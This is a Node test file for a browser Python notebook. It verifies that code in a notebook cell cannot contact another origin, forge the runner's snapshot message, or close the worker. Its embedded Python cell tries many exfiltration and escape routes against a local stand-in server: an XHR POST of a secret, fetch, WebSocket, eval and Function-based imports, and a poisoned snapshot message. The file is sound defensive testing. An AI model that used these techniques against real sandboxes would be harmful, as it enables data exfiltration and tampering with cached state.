// The notebook's worker reaches only the site's own origin: a cell's requests to another origin (a second
// local server on another port, which would answer anyone) are refused and that server receives nothing,
// while Python still loads and the chapter's cells still run; a cell can neither post messages as the runner
// (a snapshot of Python the page would keep for later visits) nor close the worker. Its script has a policy of its own: as a header
// from vite preview (npm start), and from the site's service worker on a static host.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readdirSync } from 'node:fs';
import { preview } from 'vite';

import { assertNoProblems, closePage, newPage, root, setup, site } from './harness.mjs';
import { WORKER_POLICY } from '../../vite.config.js';
import { notebookHash } from '../../web/notebook/share.js';
import { readChapterNotebook, transcriptionPath } from '../notebook/transcription.mjs';

const PYTHON_TIMEOUT = 60_000;

let env;
let other; // { base, received: string[] }
before(async () => {
  env = await setup();
  const received = [];
  const server = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin', 'Content-Type': 'text/javascript' });
    res.end('export default 1;');
  });
  server.on('upgrade', (req, socket) => { received.push(`UPGRADE ${req.url}`); socket.destroy(); });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  other = { server, received, base: `http://127.0.0.1:${server.address().port}` };
});
after(async () => {
  await env?.close();
  await new Promise((done) => other?.server.close(done) ?? done());
});

// Each way out, tried from Python: what it did ("refused: <message>" or "sent"), one line each.
const attempts = (base) => String.raw`
import js, pyodide, pyodide_js
from pyodide.ffi import create_proxy
OTHER = "${base}"
outcomes = {}
def attempt(name, action):
    try:
        action()
        outcomes[name] = "sent"
    except Exception as e:
        outcomes[name] = "refused: " + str(e).splitlines()[-1]
def settle(name, promise):
    outcomes[name] = "pending"
    def sent(_): outcomes[name] = "sent"
    def refused(e): outcomes[name] = "refused: " + str(e)
    promise.then(create_proxy(sent), create_proxy(refused))
def xhr():
    r = js.XMLHttpRequest.new()
    r.open("POST", OTHER + "/xhr", False)
    r.send("secret")
attempt("XMLHttpRequest", xhr)
attempt("WebSocket", lambda: js.WebSocket.new(OTHER.replace("http", "ws") + "/ws"))
attempt("EventSource", lambda: js.EventSource.new(OTHER + "/events"))
attempt("Worker", lambda: js.Worker.new(OTHER + "/worker.js"))
attempt("importScripts", lambda: js.importScripts(OTHER + "/script.js"))
attempt("eval", lambda: js.eval(f"import('{OTHER}/eval.js')"))
attempt("Function", lambda: js.Function.new(f"return import('{OTHER}/function.js')")())
attempt("a function's constructor", lambda: js.fetch.constructor.new(f"return import('{OTHER}/constructor.js')")())
attempt("setTimeout with text", lambda: js.setTimeout(f"import('{OTHER}/timeout.js')", 0))
attempt("run_js", lambda: pyodide.code.run_js(f"import('{OTHER}/run_js.js')"))
settle("fetch", js.fetch(OTHER + "/fetch?secret"))
settle("fetch of a Request", js.fetch(js.Request.new(OTHER + "/request")))
settle("loadPackage", pyodide_js.loadPackage(OTHER + "/package.whl"))  # resolves even when it fails: the server tells
# the worker itself: a message posing as the runner's (here Python's snapshot, which the page would keep for
# later visits were it to take a cell's word for it), and closing it (every later cell would wait forever)
as_js = lambda d: pyodide.ffi.to_js(d, dict_converter=js.Object.fromEntries)
attempt("postMessage", lambda: js.postMessage(as_js({"type": "snapshot", "bytes": js.Uint8Array.new(16)})))
attempt("postMessage as ready", lambda: js.postMessage(as_js({"type": "ready", "snapshot": js.Uint8Array.new(16)})))
attempt("close", lambda: js.close())
`;

const report = 'for name, outcome in outcomes.items():\n    print(f"{name}: {outcome}")';

async function openNotebook(page, cells, base = env.base) {
  await page.goto(`${base}notebook.html${await notebookHash(cells)}`);
  await page.waitForFunction(() => document.documentElement.dataset.ready === 'python', null, { timeout: PYTHON_TIMEOUT });
}

/** Runs every cell with "Run all"; each cell's printed text and traceback. */
async function runAll(page) {
  const count = await page.locator('.nb-cell').count();
  await page.click('#run-all');
  await page.waitForFunction((n) => [...document.querySelectorAll('.nb-count')].slice(0, n).every((c) => /^\[\d+\]$/.test(c.textContent)),
    count, { timeout: PYTHON_TIMEOUT });
  return shownOutputs(page);
}

/** Each cell's printed text and traceback, as shown. */
const shownOutputs = (page) => page.$$eval('.nb-cell', (cells) => cells.map((c) => ({
  output: c.querySelector('.nb-stdout')?.textContent ?? '',
  error: c.querySelector('.nb-error')?.textContent ?? null,
})));

test("a cell's requests to another origin are refused, and that origin receives nothing", { timeout: 120_000 }, async () => {
  const page = await newPage(env.browser);
  await openNotebook(page, [attempts(other.base), report]);
  const [tried] = await runAll(page);
  assert.equal(tried.error, null, tried.error);
  // The report again until the requests made as promises have settled (loadPackage's takes a few fetches).
  let outcomes = {};
  for (let count = 3; Object.keys(outcomes).length === 0 || Object.values(outcomes).includes('pending'); count++) {
    assert.ok(count < 50, `requests still pending: ${JSON.stringify(outcomes)}`);
    await page.locator('.nb-cell').nth(1).getByRole('button', { name: 'Run this cell' }).click();
    await page.waitForFunction((n) => document.querySelectorAll('.nb-count')[1].textContent === `[${n}]`, count, { timeout: PYTHON_TIMEOUT });
    const [, reported] = await shownOutputs(page);
    outcomes = Object.fromEntries(reported.output.trim().split('\n').map((line) => line.split(/: (.*)/s).slice(0, 2)));
  }
  const { loadPackage, ...refusable } = outcomes;
  assert.equal(Object.keys(refusable).length, 15, JSON.stringify(outcomes));
  for (const [name, outcome] of Object.entries(refusable)) assert.match(outcome, /^refused: /, `${name}: ${outcome}`);
  assert.match(outcomes.fetch, /fetch from http:\/\/127\.0\.0\.1:\d+ is not available in the notebook: it reaches only this site/);
  assert.match(outcomes.close, /close is not available in the notebook's worker: only the page ends it/);
  assert.deepEqual(other.received, [], 'the other origin received requests');
  // No snapshot of the cell's was kept (the real one, if any, is Python's whole memory).
  const kept = await page.evaluate(async () => {
    const url = new URL('./notebook-python-snapshot', location.href).href;
    const sizes = [];
    for (const name of await caches.keys()) {
      const found = await (await caches.open(name)).match(url);
      if (found) sizes.push((await found.arrayBuffer()).byteLength);
    }
    return sizes;
  });
  assert.ok(kept.every((bytes) => bytes > 1024 * 1024), `snapshots kept: ${kept} bytes`);
  // Some of these refusals are logged by the browser as failed loads; nothing else went wrong.
  page.problems = page.problems.filter((p) => !p.includes(other.base));
  assertNoProblems(page);
  await closePage(page);
});

test("the site's own files still load, and the chapter's cells run without an error", {
  timeout: 180_000,
  skip: transcriptionPath ? false : 'the transcription ../shared/reference/chapter3-notebook.txt is not on this machine',
}, async () => {
  const page = await newPage(env.browser);
  const cells = readChapterNotebook().map((c) => c.code);
  await openNotebook(page, cells); // Pyodide and the torch package are fetched from the site once the network is closed
  const shown = await runAll(page);
  assert.equal(shown.length, cells.length);
  shown.forEach((cell, i) => assert.equal(cell.error, null, `cell ${i + 1}: ${cell.error}`));
  assertNoProblems(page);
  await closePage(page);
});

test("where the host sends headers (vite preview, npm start), the worker's script has its own policy, and Python runs under it", { timeout: 120_000 }, async () => {
  const server = await preview({ configFile: `${root}vite.config.js`, logLevel: 'silent', preview: { port: 0, strictPort: false } });
  try {
    const base = `http://localhost:${server.httpServer.address().port}/`;
    const worker = readdirSync(`${site}assets/worker`).find((file) => /^worker-.*\.js$/.test(file));
    const response = await fetch(`${base}assets/worker/${worker}`);
    assert.equal(response.headers.get('content-security-policy'), WORKER_POLICY.join('; '));
    assert.equal((await fetch(`${base}notebook.html`)).headers.get('content-security-policy'), null, 'the pages keep their <meta> policy');
    const page = await newPage(env.browser);
    await openNotebook(page, ['import torch\ntorch.manual_seed(123)\nprint(torch.rand(2))'], base);
    const [shown] = await runAll(page);
    assert.deepEqual(shown, { output: 'tensor([0.2961, 0.5166])', error: null });
    assertNoProblems(page);
    await closePage(page);
  } finally {
    await server.close();
  }
});

test("on a host without headers, the site's service worker gives the worker its policy from the first visit", { timeout: 120_000 }, async () => {
  const page = await newPage(env.browser);
  // the response the page's worker got (the service worker's own fetch of it is reported too)
  const workerScript = page.context().waitForEvent('response', (r) => /\/assets\/worker\/worker-[^/]*\.js$/.test(r.url()) && !r.request().serviceWorker());
  await openNotebook(page, ['print(1 + 1)']);
  assert.ok(await page.evaluate(() => navigator.serviceWorker.controller?.scriptURL.endsWith('/notebook-sw.js')), 'the service worker controls the page');
  const response = await workerScript;
  assert.ok(response.fromServiceWorker(), 'the worker script came through the service worker');
  assert.equal(await response.headerValue('content-security-policy'), WORKER_POLICY.join('; '));
  const [shown] = await runAll(page);
  assert.deepEqual(shown, { output: '2', error: null });
  assertNoProblems(page);
  await closePage(page);
});
